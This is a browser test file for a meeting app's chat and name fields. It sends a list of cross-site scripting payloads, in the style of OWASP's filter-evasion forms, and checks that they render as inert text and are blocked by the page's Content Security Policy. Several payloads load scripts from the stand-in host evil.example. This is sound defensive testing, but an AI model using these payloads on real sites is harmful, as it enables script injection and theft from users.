import { expect } from 'vitest';
import { ADA, BEN } from './kit/owner.ts';
import { test } from './kit/test.ts';

/** What runs a script where somebody forgets to escape, as an element and inside an attribute. */
const NAME = '<img src=x onerror=alert(1)>"\'><b>';
const OTHER_NAME = '<svg/onload=alert(6)>{{7*7}}${alert(7)}';
const LINES = [
  '<script>alert(2)</script>',
  '"><svg onload=alert(3)>',
  'javascript:alert(4)',
  'https://example.org/"onmouseover="alert(5)',
];

/** The forms that OWASP's list of filter evasions knows: one a line, all in one message. */
const EVASIONS = [
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<IMG SRC="javascript:alert(10);">',
  '<IMG SRC=JaVaScRiPt:alert(11)>',
  '<IMG SRC=`javascript:alert("12")`>',
  '<a onmouseover="alert(13)">x</a>',
  '<IMG """><SCRIPT>alert(14)</SCRIPT>">',
  '<IMG SRC=javascript:alert(String.fromCharCode(49,53))>',
  '<IMG SRC=# onmouseover="alert(16)">',
  '<IMG SRC=/ onerror="alert(17)"></img>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(18)>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099>',
  '<IMG SRC="jav&#x0A;ascript:alert(20);">',
  '<SCRIPT/XSS SRC="//evil.example/x.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(21)>',
  '<<SCRIPT>alert(22);//\\<</SCRIPT>',
  '<SCRIPT SRC=//evil.example/.j>',
  '\\";alert(23);//',
  '</TITLE><SCRIPT>alert(24);</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(25);">',
  '<STYLE>li {list-style-image: url("javascript:alert(26)");}</STYLE><UL><LI>x',
  '<svg><animate onbegin=alert(27) attributeName=x dur=1s>',
  '<LINK REL="stylesheet" HREF="javascript:alert(28);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(29);">',
  '<IFRAME SRC="javascript:alert(30);"></IFRAME>',
  '<DIV STYLE="background-image: url(javascript:alert(31))">',
  '<BASE HREF="javascript:alert(32);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="//evil.example/x.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml,<svg onload=alert(33)>">',
  '<details open ontoggle=alert(34)><math href="javascript:alert(35)">x</math>',
  '<form><button formaction=javascript:alert(36)>x',
  'data:text/html,<script>alert(37)</script> vbscript:alert(38) view-source:javascript:alert(39)',
  'mailto:a@example.org?subject="><script>alert(40)</script>',
  'https://example.org/#"><img src=x onerror=alert(41)>',
];
/** What would be there if any of it had become an element or an attribute. */
const PLANTED =
  'img, b, iframe, embed, object, base, math, details, script:not([src]), [onload], [onerror], [onmouseover], [ontoggle]';

test('[EE17] markup in names and in chat, to all and to one, is text to everybody, and nothing of it runs', async ({
  server,
  room,
  invite,
}) => {
  const [ada, ben] = await Promise.all([invite(ADA), invite(BEN)]);
  const dialogs: string[] = [];
  for (const person of [ada, ben]) {
    person.page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await person.openDoor(server.url + room);
  }
  await ada.join(NAME);
  await ben.join(OTHER_NAME);
  await ben.tile(NAME).waitFor();
  await ben.openChat();
  await ada.openChat();
  for (const line of LINES) await ada.says(line);
  for (const line of LINES) await ben.chatLog().getByText(line).first().waitFor();
  await ada.says(EVASIONS.join('\n'));
  await ben.chatLog().getByText('</TITLE>').first().waitFor();
  for (const line of EVASIONS) expect(await ben.chatText()).toContain(line);
  // To one person as well: in the name of a tab, of a button, of a field, and in a word that passes by.
  await ada.button(/^People/).click();
  await ada.button(`Message ${OTHER_NAME} privately`).click();
  await ada.says(EVASIONS.join('\n'));
  await ben.page.getByRole('tab').nth(1).click();
  await ben.chatLog().getByText('</TITLE>').first().waitFor();
  await ada.button('Raise hand').click();
  await ben.tile(NAME).locator('[data-hand]').waitFor();
  for (const person of [ada, ben]) {
    for (const link of await person.chatLog().getByRole('link').all()) {
      expect(await link.getAttribute('href')).toMatch(/^(https:\/\/example\.org\/|mailto:a@example\.org)/);
      expect(await link.getAttribute('rel')).toContain('noopener');
    }
    expect(await person.page.locator(PLANTED).count()).toBe(0);
  }
  expect(dialogs).toEqual([]);
});

test('[EE17] the policy of the page blocks a script that got in by another way', async ({ server, invite }) => {
  const ada = await invite(ADA);
  ada.expectsFaults(/script-src|Content Security Policy/);
  await ada.page.goto(server.url);
  await ada.button('Start a meeting').waitFor();
  const ran = await ada.page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    document.body.append(script);
    document.body.insertAdjacentHTML('beforeend', '<button onclick="window.ran = true" id="planted">x</button>');
    document.querySelector<HTMLButtonElement>('#planted')?.click();
    return 'ran' in window;
  });
  expect(ran).toBe(false);
});
